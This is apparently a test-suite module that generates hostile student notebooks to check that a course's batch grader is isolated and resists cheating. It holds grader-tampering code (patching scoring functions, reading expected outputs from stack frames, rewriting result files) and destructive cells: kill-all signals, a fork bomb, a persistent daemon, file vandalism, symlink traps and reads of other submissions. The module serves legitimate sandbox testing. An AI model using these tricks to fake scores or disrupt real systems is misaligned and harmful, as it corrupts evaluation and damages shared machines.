"""One hostile notebook per attack on the batch grader, built from lab 01's solution and released stub.

Every submission is a real lab notebook: the solution (an honest student), the released stub (a student who did
nothing), or either with cells changed or appended. A :class:`Context` carries what the attacks aim at, baked into
their source when the class is built (inside a sandbox the environment is cleared, so nothing is passed through
it): sentinel files outside the class folder, a decoy process's pid, a marker that every process an attack leaves
behind carries in its command line or name, a TCP port the test listens on, and the submission to vandalise.

Attacks that would harm the machine when run unsandboxed (``os.kill(-1, 9)`` as root, a fork bomb) first check
that they are isolated: the canary file beside the sentinels must be invisible and the process table small. When
not isolated they do no harm and leave a file ``unsafe-<attack>`` beside the canary instead, which the suite
reports as a change outside the sandbox.

``Attack.targets`` names the questions an attack cheats on: they must score 0. Honest submissions (``kind``
"honest", "wrong", "broken") must score exactly what they score when graded without the hostile ones.
"""

from __future__ import annotations

import copy
import json
import pathlib
import textwrap
from collections.abc import Callable
from dataclasses import dataclass, field

ROOT = pathlib.Path(__file__).resolve().parents[2]
LAB = "lab01"
SOLUTION = ROOT / "solutions" / "lab01_online_softmax.ipynb"
STUB = ROOT / "labs" / "lab01_online_softmax.ipynb"
QUESTIONS = ("q1", "q2", "q3")
# lab 01 has no memory part; the probe attack is kept so that the grader is seen to survive it
MEMORY_QUESTIONS: tuple[str, ...] = ()
SETUP_CELL = "cell-01"
IMPORT_CELL = "cell-02"
UPDATE_CELL = "cell-04"


@dataclass
class Context:
    """What the attacks aim at (all paths absolute)."""

    folder: pathlib.Path  # the class folder being graded
    outside: pathlib.Path  # a folder of sentinel files, outside every sandbox
    decoy_pid: int  # a process that must survive the run
    marker: str  # at most 15 characters: also fits a process name (/proc/PID/comm)
    port: int  # a TCP listener on the host's 127.0.0.1
    victim: str = ""  # the file name of the submission the vandals rewrite (default: the honest one)

    def __post_init__(self) -> None:
        self.victim = self.victim or file_name("honest")

    @property
    def sentinel(self) -> pathlib.Path:
        return self.outside / "sentinel.txt"

    @property
    def canary(self) -> pathlib.Path:
        return self.outside / "canary.txt"


@dataclass
class Attack:
    """A submission: ``build(ctx)`` returns its notebook (a dict)."""

    name: str
    kind: str  # "honest", "wrong", "broken" (scored as when graded alone), "cheat" or "hostile"
    what: str
    build: Callable[[Context], dict]
    targets: tuple[str, ...] = field(default=())


# ---------------------------------------------------------------------------------------------- notebook edits
def _load(path: pathlib.Path) -> dict:
    return json.loads(path.read_text())


def _cell(nb: dict, cell_id: str) -> dict:
    return next(c for c in nb["cells"] if c.get("id") == cell_id)


def _code(source: str, cell_id: str) -> dict:
    return {"cell_type": "code", "execution_count": None, "id": cell_id, "metadata": {}, "outputs": [],
            "source": textwrap.dedent(source).strip() + "\n"}


def _secret(name: str, ctx: Context) -> str:
    """A line unique to one submission: seeing it in another submission's row means that one read this one."""
    return f"secret-{ctx.marker}-{name}"


def _base(which: str, name: str, ctx: Context) -> dict:
    nb = copy.deepcopy(_load(SOLUTION if which == "solution" else STUB))
    setup = _cell(nb, SETUP_CELL)
    src = "".join(setup["source"]) if isinstance(setup["source"], list) else setup["source"]
    setup["source"] = f"# {_secret(name, ctx)}\n" + src
    return nb


def _with_cells(which: str, name: str, ctx: Context, *sources: str, after: str | None = None) -> dict:
    """The base notebook with code cells inserted after cell ``after`` (default: at the end)."""
    nb = _base(which, name, ctx)
    cells = [_code(s, f"attack-{i}") for i, s in enumerate(sources)]
    if after is None:
        nb["cells"] += cells
    else:
        i = next(i for i, c in enumerate(nb["cells"]) if c.get("id") == after) + 1
        nb["cells"][i:i] = cells
    return nb


def _isolation_guard(name: str, ctx: Context) -> str:
    """Source defining ``_isolated()``: True only when the host's files and processes are out of sight."""
    return f"""
        import os as _os
        def _isolated():
            if _os.path.exists({str(ctx.canary)!r}):
                return False
            return sum(1 for p in _os.listdir("/proc") if p.isdigit()) < 40
        def _refuse():
            try:
                open({str(ctx.outside / ("unsafe-" + name))!r}, "w").write("not isolated: refused to run")
            except OSError:
                pass
    """


def _name_process(ctx: Context) -> str:
    return f"""
        try:
            open("/proc/self/comm", "w").write({ctx.marker!r})
        except OSError:
            pass
    """


# --------------------------------------------------------------------------------------------- the submissions
def honest(ctx: Context) -> dict:
    return _base("solution", "honest", ctx)


def stub(ctx: Context) -> dict:
    return _base("stub", "stub", ctx)


def wrong(ctx: Context) -> dict:
    """The classic mistake: l and u are not rescaled when a block raises the max."""
    nb = _base("solution", "wrong", ctx)
    cell = _cell(nb, UPDATE_CELL)
    src = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
    line = next(x for x in src.splitlines() if x.strip().startswith("alpha = "))
    cell["source"] = src.replace(line, line.split("alpha")[0] + "alpha = 1.0  # forgot to rescale")
    return nb


def broken(ctx: Context) -> dict:
    """Imports a package that is not installed at the top of the imports cell: np and check never get defined."""
    nb = _base("solution", "broken", ctx)
    cell = _cell(nb, IMPORT_CELL)
    src = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
    cell["source"] = "import torch\n" + src
    return nb


COURSE_ANSWER = """
    import numpy as np
    from flashlab import online

    def online_update(m, l, u, scores, values):
        state = online.State(np.float64(m), np.float64(l), np.asarray(u, dtype=float))
        return tuple(online.update(state, np.asarray(scores, float), np.asarray(values, float)))

    def online_merge(state_a, state_b):
        a, b = (online.State(*(np.asarray(x, dtype=float) for x in s)) for s in (state_a, state_b))
        return tuple(online.merge(a, b))

    def attend_in_blocks(scores, values, block):
        return online.attend(scores, values, list(range(block, len(scores), block)))
"""


def course_answer(ctx: Context) -> dict:
    return _with_cells("stub", "course_answer", ctx, COURSE_ANSWER)


def course_answer_cloned(ctx: Context) -> dict:
    """The course's functions copied into fresh function objects (same code), under other names."""
    clone = """
        import importlib, types
        _mod = importlib.import_module("flashlab." + "onl" + "ine")
        def _clone(f):
            return types.FunctionType(f.__code__, f.__globals__, "mine", f.__defaults__, f.__closure__)
        online = types.SimpleNamespace(State=_mod.State, update=_clone(_mod.update), merge=_clone(_mod.merge),
                                       attend=_clone(_mod.attend))
    """
    body = COURSE_ANSWER.replace("from flashlab import online\n", "")
    return _with_cells("stub", "course_answer_cloned", ctx, clone, body)


def redefine_check(ctx: Context) -> dict:
    src = """
        import flashlab.grading as _g
        import flashlab.grading.core as _c
        def check(name, *objects, **kwargs):
            q = _c.get_lab("lab01").questions[name]
            print(f"{name}: {q.points:g}/{q.points:g} points")
        _g.lab = lambda lab_id: check
        _c.Checker.__call__ = lambda self, name, *objects, **kwargs: check(name)
        for _q in ("q1", "q2", "q3"):
            check(_q)
    """
    return _with_cells("stub", "redefine_check", ctx, src, after=IMPORT_CELL)


def patch_run_question(ctx: Context) -> dict:
    src = """
        import flashlab.grading as _g
        import flashlab.grading.core as _c
        def _full(lab_id, name, objects, **kwargs):
            q = _c.get_lab(lab_id).questions[name]
            return _c.Result(name, q.points, q.points, "", kwargs.get("seed"))
        _c.run_question = _full
        _g.run_question = _full
    """
    return _with_cells("stub", "patch_run_question", ctx, src)


def patch_allclose(ctx: Context) -> dict:
    src = """
        import flashlab.grading.core as _c
        _c.allclose = lambda *args, **kwargs: True
        def online_update(m, l, u, scores, values):
            return 0.0, 1.0, 0.0
        def online_merge(state_a, state_b):
            return 0.0, 1.0, 0.0
        def attend_in_blocks(scores, values, block):
            return 0.0
    """
    return _with_cells("stub", "patch_allclose", ctx, src)


def patch_trial(ctx: Context) -> dict:
    src = """
        import flashlab.grading.core as _c
        def _compare(self, label, points, **kwargs):
            self.parts.append((label, points, points, ""))
            return True
        _c.Trial.compare = _compare
        _c.Trial.memory = lambda self, label, points, *args, **kwargs: _compare(self, label, points)
    """
    return _with_cells("stub", "patch_trial", ctx, src)


def patch_memory_probe(ctx: Context) -> dict:
    src = """
        import flashlab.grading.core as _c
        import flashlab.measure as _m
        def _no_memory(fn, *args, **kwargs):
            return 0, fn(*args, **kwargs)
        _m.peak_memory = _no_memory
        _c.peak_memory = _no_memory
    """
    return _with_cells("stub", "patch_memory_probe", ctx, src)


def stack_walk(ctx: Context) -> dict:
    """Reads the expected outputs from the grader's frames; raises NotImplementedError when nobody is grading."""
    src = """
        import sys
        def _expected():
            frame = sys._getframe(1)
            while frame is not None:
                if "expected" in frame.f_locals and "case" in frame.f_locals:
                    return tuple(frame.f_locals["expected"])
                frame = frame.f_back
            raise NotImplementedError("only while graded")
        def online_update(m, l, u, scores, values):
            return _expected()
        def online_merge(state_a, state_b):
            return _expected()
        def attend_in_blocks(scores, values, block):
            return _expected()[0]
    """
    return _with_cells("stub", "stack_walk", ctx, src)


def ipython_hook(ctx: Context) -> dict:
    """After every cell, rewrites any score-like JSON in reach (and the files the cell named) to full marks."""
    src = """
        import glob, json, os, re
        def _full(x):
            if isinstance(x, dict):
                if "score" in x and "max_score" in x:
                    x["score"] = x["max_score"]
                    x["feedback"] = ""
                for v in x.values():
                    _full(v)
            elif isinstance(x, list):
                for v in x:
                    _full(v)
            return x
        def _rewrite(result):
            raw = getattr(getattr(result, "info", None), "raw_cell", "") or ""
            paths = set(re.findall(r"['\\"]([^'\\"]+\\.json)['\\"]", raw))
            paths.update(glob.glob("**/*.json", recursive=True) + glob.glob("../*.json") + glob.glob("../*/*.json"))
            for p in paths:
                try:
                    with open(p) as f:
                        data = json.load(f)
                    with open(p, "w") as f:
                        json.dump(_full(data), f)
                except (OSError, ValueError):
                    pass
        get_ipython().events.register("post_run_cell", _rewrite)
    """
    return _with_cells("stub", "ipython_hook", ctx, src, after=IMPORT_CELL)


def exec_solutions(ctx: Context) -> dict:
    src = """
        import json, pathlib
        import flashlab
        _here = pathlib.Path(flashlab.__file__).resolve().parent
        for _nb in sorted(_here.parent.glob("solutions/lab01_*.ipynb")) + sorted(pathlib.Path("..").glob("*.ipynb")):
            try:
                _cells = json.loads(_nb.read_text())["cells"]
            except (OSError, ValueError):
                continue
            for _c in _cells:
                _s = "".join(_c["source"])
                if _c["cell_type"] == "code" and "BEGIN SOLUTION" in _s:
                    exec(_s, globals())
    """
    return _with_cells("stub", "exec_solutions", ctx, src)


def write_outside(ctx: Context) -> dict:
    src = f"""
        for _p, _how in (({str(ctx.sentinel)!r}, "w"), ({str(ctx.outside / "planted.txt")!r}, "w"),
                         ({str(ctx.folder / "planted.ipynb")!r}, "w"), ("../planted.txt", "w")):
            try:
                open(_p, _how).write("written by a submission")
            except OSError as e:
                print("blocked:", e)
    """
    return _with_cells("solution", "write_outside", ctx, src)


def edit_sibling(ctx: Context) -> dict:
    src = f"""
        import glob, json
        _stub = json.loads(open({str(STUB)!r}).read()) if __import__("os").path.exists({str(STUB)!r}) else {{}}
        for _p in [{str(ctx.folder / ctx.victim)!r}]:
            try:
                open(_p, "w").write(json.dumps(_stub) if _stub else "vandalised")
            except OSError as e:
                print("blocked:", e)
    """
    return _with_cells("solution", "edit_sibling", ctx, src)


def patch_installed_grader(ctx: Context) -> dict:
    """Appends to the installed core.py so that every submission graded after this one scores full marks."""
    src = """
        import pathlib
        import flashlab.grading.core as _c
        _patch = ("\\n\\ndef run_question(lab_id, name, objects, **kwargs):\\n"
                  "    q = get_lab(lab_id).questions[name]\\n"
                  "    return Result(name, q.points, q.points, '', kwargs.get('seed'))\\n")
        try:
            with open(pathlib.Path(_c.__file__), "a") as f:
                f.write(_patch)
        except OSError as e:
            print("blocked:", e)
    """
    return _with_cells("stub", "patch_installed_grader", ctx, src)


def daemon(ctx: Context) -> dict:
    """Double-forks a process in a session of its own that rewrites files for ten minutes."""
    targets = [(str(ctx.sentinel), "rewritten by a daemon"), (str(ctx.folder / ctx.victim), "rewritten by a daemon"),
               (str(ctx.outside / "daemon.txt"), "a daemon was here")]
    child = f"""
import os, sys, time
if os.fork():
    os._exit(0)
os.setsid()
time.sleep(2)
end = time.time() + 600
while time.time() < end:
    for path, text in {targets!r}:
        try:
            open(path, "w").write(text)
        except OSError:
            pass
    time.sleep(1)
"""
    src = f"""
        import subprocess, sys
        subprocess.Popen([sys.executable, "-c", {child!r}, {ctx.marker!r}], start_new_session=True,
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL).wait()
    """
    return _with_cells("solution", "daemon", ctx, src)


def pidfile(ctx: Context) -> dict:
    src = f"""
        import glob
        for _p in set(glob.glob("*.pid") + glob.glob("../*.pid") + glob.glob("../**/*.pid", recursive=True)):
            try:
                open(_p, "w").write(str({ctx.decoy_pid}))
            except OSError as e:
                print("blocked:", e)
    """
    return _with_cells("solution", "pidfile", ctx, src)


def kill_all(ctx: Context) -> dict:
    src = _isolation_guard("kill_all", ctx) + """
        import signal
        if _isolated():
            try:
                _os.kill(-1, signal.SIGKILL)
            except OSError as e:
                print("blocked:", e)
        else:
            _refuse()
    """
    return _with_cells("solution", "kill_all", ctx, src)


def kill_decoy(ctx: Context) -> dict:
    src = f"""
        import os, signal
        for _sig in (signal.SIGKILL,):
            try:
                os.kill({ctx.decoy_pid}, _sig)
            except OSError as e:
                print("blocked:", e)
            try:
                os.killpg({ctx.decoy_pid}, _sig)
            except OSError as e:
                print("blocked:", e)
    """
    return _with_cells("solution", "kill_decoy", ctx, src)


def ignore_sigint(ctx: Context) -> dict:
    src = _name_process(ctx) + """
        import signal, time
        signal.signal(signal.SIGINT, signal.SIG_IGN)
        while True:
            time.sleep(1)
    """
    return _with_cells("solution", "ignore_sigint", ctx, src)


def fork_bomb(ctx: Context) -> dict:
    src = _isolation_guard("fork_bomb", ctx) + _name_process(ctx) + """
        import time
        if _isolated():
            _end = time.time() + 15
            while time.time() < _end:
                try:
                    _pid = _os.fork()
                except OSError:
                    time.sleep(0.1)
                    continue
                if _pid == 0:
                    time.sleep(0.01)
            if _os.getpid() != _parent:
                time.sleep(60)
                _os._exit(0)
        else:
            _refuse()
    """
    return _with_cells("solution", "fork_bomb", ctx, "import os as _o\n_parent = _o.getpid()", src)


def exhaust_fds(ctx: Context) -> dict:
    src = """
        import resource
        _fds = []
        _soft, _hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        try:
            resource.setrlimit(resource.RLIMIT_NOFILE, (min(_hard, 1 << 16), _hard))
        except (ValueError, OSError):
            pass
        try:
            while len(_fds) < (1 << 16):
                _fds.append(open("/dev/null"))
        except OSError:
            pass
        print(len(_fds), "descriptors held")
    """
    return _with_cells("solution", "exhaust_fds", ctx, src)


def print_50mb(ctx: Context) -> dict:
    src = """
        import sys
        _chunk = "x" * (1 << 20) + "\\n"
        for _ in range(50):
            sys.stdout.write(_chunk)
            sys.stderr.write(_chunk)
    """
    return _with_cells("solution", "print_50mb", ctx, src)


def exfiltrate(ctx: Context) -> dict:
    """Reads the other notebooks in reach and puts what it found into its feedback (an exception's message)."""
    src = f"""
        import glob, re
        _stolen = []
        for _p in sorted(set(glob.glob({str(ctx.folder / "*.ipynb")!r}) + glob.glob("../**/*.ipynb", recursive=True))):
            try:
                _stolen += re.findall(r"secret-[A-Za-z0-9_]+-[A-Za-z0-9_]+", open(_p).read())
            except OSError:
                pass
        _stolen = sorted(set(s for s in _stolen if not s.endswith("-exfiltrate")))
        print("stolen:", _stolen)
        def online_update(m, l, u, scores, values):
            raise ValueError(" ".join(_stolen) or "nothing found")
        online_merge = attend_in_blocks = online_update
    """
    return _with_cells("stub", "exfiltrate", ctx, src)


def network(ctx: Context) -> dict:
    src = f"""
        import socket
        for _host in ("127.0.0.1", "localhost"):
            try:
                with socket.create_connection((_host, {ctx.port}), timeout=3) as _s:
                    _s.sendall(b"hello from a submission")
            except OSError as e:
                print("blocked:", e)
    """
    return _with_cells("solution", "network", ctx, src)


def symlink_trap(ctx: Context) -> dict:
    """Turns every file in reach (and the names a grader's result files are likely to have) into symlinks to the
    sentinel and FIFOs: a grader that follows links writes outside, one that opens a FIFO blocking hangs."""
    src = f"""
        import glob, os
        _names = ["result.json", "results.json", "out.json", "output.json", "outputs.json", "outputs.npz",
                  "inputs.npz", "expected.npz", "feedback.txt", "kernel.pid", "out/result.json"]
        _mine = set(glob.glob("*.ipynb"))
        _found = [p for p in glob.glob("*") + glob.glob("*/*") + glob.glob("../*")
                  if os.path.isfile(p) and not os.path.islink(p) and p not in _mine]
        for _i, _p in enumerate(sorted(set(_found + _names))):
            try:
                os.makedirs(os.path.dirname(_p) or ".", exist_ok=True)
                if os.path.lexists(_p):
                    os.remove(_p)
                if _i % 2:
                    os.mkfifo(_p)
                else:
                    os.symlink({str(ctx.sentinel)!r}, _p)
            except OSError as e:
                print("blocked:", e)
    """
    return _with_cells("solution", "symlink_trap", ctx, src)


ALL = QUESTIONS
ATTACKS: list[Attack] = [
    # the vandals first: today the submissions graded after them are their victims
    Attack("patch_installed_grader", "hostile", "appends run_question -> full marks to the installed core.py",
           patch_installed_grader),
    Attack("daemon", "hostile", "double-forked setsid daemon rewriting files for 10 minutes", daemon),
    Attack("pidfile", "hostile", "writes the decoy's pid into every *.pid in reach", pidfile),
    Attack("edit_sibling", "hostile", "overwrites another submission's notebook", edit_sibling),
    Attack("write_outside", "hostile", "writes a sentinel file and plants files outside its folder", write_outside),
    Attack("symlink_trap", "hostile", "replaces files in reach by symlinks to the sentinel and FIFOs", symlink_trap),
    Attack("kill_decoy", "hostile", "SIGKILLs the decoy process (and its group)", kill_decoy),
    Attack("kill_all", "hostile", "os.kill(-1, SIGKILL) (only when isolated)", kill_all),
    Attack("fork_bomb", "hostile", "forks until refused, children sleep (only when isolated)", fork_bomb),
    Attack("ignore_sigint", "hostile", "ignores SIGINT and sleeps forever", ignore_sigint),
    Attack("exhaust_fds", "hostile", "opens file descriptors until refused and keeps them", exhaust_fds),
    Attack("print_50mb", "hostile", "prints 50 MB to stdout and 50 MB to stderr", print_50mb),
    Attack("exfiltrate", "hostile", "reads other notebooks and puts their lines into its feedback", exfiltrate),
    Attack("network", "hostile", "connects to a listener on the host's 127.0.0.1", network),
    Attack("course_answer", "cheat", "calls flashlab.online.update/merge/attend", course_answer, ALL),
    Attack("course_answer_cloned", "cheat", "calls clones of flashlab.online's functions", course_answer_cloned, ALL),
    Attack("redefine_check", "cheat", "redefines check (and Checker) to print full marks", redefine_check, ALL),
    Attack("patch_run_question", "cheat", "replaces flashlab.grading.core.run_question", patch_run_question, ALL),
    Attack("patch_allclose", "cheat", "replaces flashlab.grading.core.allclose with True", patch_allclose, ALL),
    Attack("patch_trial", "cheat", "replaces Trial.compare/memory with full points", patch_trial, ALL),
    Attack("patch_memory_probe", "cheat", "replaces the peak-memory probe with 0 bytes", patch_memory_probe,
           MEMORY_QUESTIONS),
    Attack("stack_walk", "cheat", "returns the expected outputs read from the grader's frames", stack_walk, ALL),
    Attack("ipython_hook", "cheat", "post_run_cell hook rewriting result files to full marks", ipython_hook, ALL),
    Attack("exec_solutions", "cheat", "execs the solution cells found through flashlab.__file__", exec_solutions,
           ALL),
    Attack("honest", "honest", "the solution", honest),
    Attack("wrong", "wrong", "the solution without the rescale (alpha = 1)", wrong),
    Attack("stub", "honest", "the released stub, untouched", stub),
    Attack("broken", "broken", "import torch at the top of the imports cell, then NameErrors", broken),
]
BY_NAME = {a.name: a for a in ATTACKS}


def file_name(name: str) -> str:
    """``NN_<name>.ipynb``: graders take a folder in name order, so the vandals come before their victims."""
    return f"{[a.name for a in ATTACKS].index(name):02d}_{name}.ipynb"


def attack_of(path: str | pathlib.Path) -> Attack:
    """The attack a submission's file was built from."""
    return BY_NAME[pathlib.Path(path).stem.split("_", 1)[1]]


def write_class(folder: pathlib.Path, ctx: Context, attacks: list[Attack] | None = None) -> dict[str, pathlib.Path]:
    """Write one notebook per attack into ``folder`` (:func:`file_name`); returns attack name -> path."""
    folder.mkdir(parents=True, exist_ok=True)
    out = {}
    for attack in ATTACKS if attacks is None else attacks:
        path = folder / file_name(attack.name)
        path.write_text(json.dumps(attack.build(ctx), indent=1, ensure_ascii=False) + "\n")
        out[attack.name] = path
    return out
